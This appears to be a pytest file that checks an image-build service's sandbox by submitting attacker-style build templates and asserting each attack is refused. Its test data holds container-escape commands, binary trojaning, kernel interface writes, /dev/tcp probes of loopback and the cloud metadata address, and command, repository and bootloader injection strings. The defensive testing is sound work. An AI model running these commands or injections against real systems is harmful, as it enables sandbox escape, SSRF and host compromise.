"""Templates written as an attacker would write them, through the REST API, each followed by a
check on the host that nothing happened (the build sandbox, docs/security.md).

Inside a template, `denied CMD…` fails the build if CMD succeeds: a COMPLETE build means every
attempt was refused inside; the host-side witnesses say nothing leaked outside either.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from .conftest import build, build_log, command, image_file, tdl

pytestmark = pytest.mark.slow

DENIED = """#!/bin/bash
denied() {
    if "$@" >/dev/null 2>&1; then echo "NOT DENIED: $*"; exit 1; fi
    echo "denied: $*"
}
"""


def test_host_files_kernel_interfaces_and_devices_are_out_of_reach(attacked, tmp_path: Path):
    canary = tmp_path / "canary"
    canary.write_text("untouched\n")
    os.chmod(tmp_path, 0o755)
    attack = DENIED + f"""
# the tree's programs that host-side code used to run (esp.sh ran the tree's readlink as root)
for program in /usr/local/sbin/readlink /usr/local/bin/cp /usr/local/sbin/mcopy; do
    printf '#!/bin/sh\\necho pwned > {canary}\\nexec /usr/bin/$(basename $0) "$@"\\n' > $program
    chmod 0755 $program
done
# a resolv.conf link that used to make host root overwrite a host file
ln -sf /run/../../../..{canary} /etc/resolv.conf
denied sh -c 'echo pwned > {canary}'
denied sh -c 'echo x > /proc/sys/kernel/hostname'
denied sh -c 'echo h > /proc/sysrq-trigger'
denied sh -c 'echo x > /sys/kernel/uevent_helper'
denied mknod /tmp/disk b 8 0
denied mount -t tmpfs tmpfs /mnt
denied sh -c 'mknod /tmp/vda b 254 0 && mount /tmp/vda /mnt'
denied sh -c 'cat /proc/1/environ | grep -q PATH'
denied modprobe dummy
test ! -e {canary}
"""
    image = build(attacked, tdl("host-files", command("attack", attack)))
    assert image["status"] == "COMPLETE", (image["status_detail"], build_log(attacked, image))
    assert canary.read_text() == "untouched\n"
    log = build_log(attacked, image)
    assert "NOT DENIED" not in log
    assert "denied: mknod /tmp/disk b 8 0" in log and "denied: modprobe dummy" in log


def test_host_processes_and_host_listeners_cannot_be_reached(attacked, listener, host_process):
    pid = host_process.pid
    attack = DENIED + f"""
denied kill -9 {pid}
denied kill -0 {pid}
denied sh -c 'test -e /proc/{pid}/cmdline'
# straight to the host's loopback, to the metadata address, and through the egress proxy
denied bash -c 'exec 3<>/dev/tcp/127.0.0.1/{listener.port}'
denied bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'
proxied() {{
    exec 3<>/dev/tcp/127.0.0.1/3128 || return 1
    printf 'GET http://%s/ HTTP/1.0\\r\\n\\r\\n' "$1" >&3
    head -n 1 <&3 | grep -q ' 200 '
}}
denied proxied 127.0.0.1:{listener.port}
denied proxied 127.0.0.1
denied proxied 169.254.169.254
denied proxied 10.0.0.1
"""
    image = build(attacked, tdl("host-reach", command("attack", attack)))
    assert image["status"] == "COMPLETE", (image["status_detail"], build_log(attacked, image))
    assert host_process.poll() is None, "the host process was signalled"
    assert listener.connections == 0
    log = build_log(attacked, image)
    assert f"egress refused: GET 127.0.0.1:{listener.port}: port" in log
    for reason in ("a loopback address", "a link-local address", "a private address"):
        assert reason in log


def test_a_url_file_cannot_fetch_from_the_host_or_the_metadata_service(attacked, listener):
    image = build(attacked, tdl("url-ssrf", files=(
        f"<file name='/etc/stolen' type='url'>http://127.0.0.1:{listener.port}/</file>")))
    assert image["status"] == "FAILED"
    assert "cannot fetch" in image["status_detail"]["error"]
    assert "403" in image["status_detail"]["error"]
    assert listener.connections == 0


def test_a_file_root_makes_is_root_s_in_the_image_while_it_ran_as_an_unprivileged_host_uid(
        attacked):
    image = build(attacked, tdl("ownership", command(
        "whoami", "id -u > /etc/made-by-root; cat /proc/self/uid_map >> /etc/made-by-root")))
    assert image["status"] == "COMPLETE", image["status_detail"]
    owner, content = image_file(attacked, image, "/etc/made-by-root")
    assert owner == 0
    inside, mapping = content.splitlines()
    assert inside == "0"
    first_inside, first_outside, count = (int(field) for field in mapping.split())
    assert first_inside == 0 and first_outside >= 65536 and count == 65536


def test_a_link_planted_for_the_package_cache_stops_the_build_and_the_next_one_is_clean(
        attacked):
    plant = ("rm -rf /var/cache/apt/archives && ln -s /etc /var/cache/apt/archives")
    image = build(attacked, tdl("cache-link", precommands=command("plant", plant),
                                packages="<package name='bc'/>"))
    assert image["status"] == "FAILED"
    assert "refusing to mount" in build_log(attacked, image)
    again = build(attacked, tdl("after-cache-link", packages="<package name='bc'/>"))
    assert again["status"] == "COMPLETE", again["status_detail"]


@pytest.mark.parametrize("install_url", [
    "http://deb.debian.org/debian&#10;deb [trusted=yes] http://127.0.0.1:9/ evil main",
    "http://deb.debian.org/debian\" ; touch /tmp/pwned ; \"",
    "file:///etc/",
])
def test_an_injected_install_url_fails_the_build_with_a_reason(attacked, install_url):
    image = build(attacked, tdl("bad-url", install_url=install_url))
    assert image["status"] == "FAILED"
    assert "<install><url>" in image["status_detail"]["error"]


def test_an_injected_repository_fails_the_build_with_a_reason(attacked):
    template = tdl("bad-repo").replace("<precommands>", (
        "<repositories><repository name='r'><url>http://deb.debian.org/debian bookworm main"
        "&#10;deb [trusted=yes] http://127.0.0.1:9/ evil main</url></repository>"
        "</repositories><precommands>"))
    image = build(attacked, template)
    assert image["status"] == "FAILED"
    assert "repository 'r'" in image["status_detail"]["error"]


@pytest.mark.parametrize(("parameters", "name"), [
    ({"components": ["main\ndeb [trusted=yes] http://127.0.0.1:9/ x main"]}, "components"),
    ({"kernel_cmdline": "quiet\n}\nmenuentry evil {"}, "kernel_cmdline"),
    ({"initramfs_modules": ["../../etc/shadow"]}, "initramfs_modules"),
    ({"mirror": "http://127.0.0.1:9/debian"}, "mirror"),
    ({"apt_proxy": 'http://p/";APT::Update::Pre-Invoke {"touch /pwned";};'}, "apt_proxy"),
])
def test_injections_in_parameters_are_refused_before_any_build(attacked, parameters, name):
    result = attacked.simulate_post("/imagefactory/base_images", json={"base_image": {
        "template": tdl("params"), "parameters": parameters}})
    assert result.status_code == 400, result.text
    assert f"parameter '{name}'" in result.json["description"]
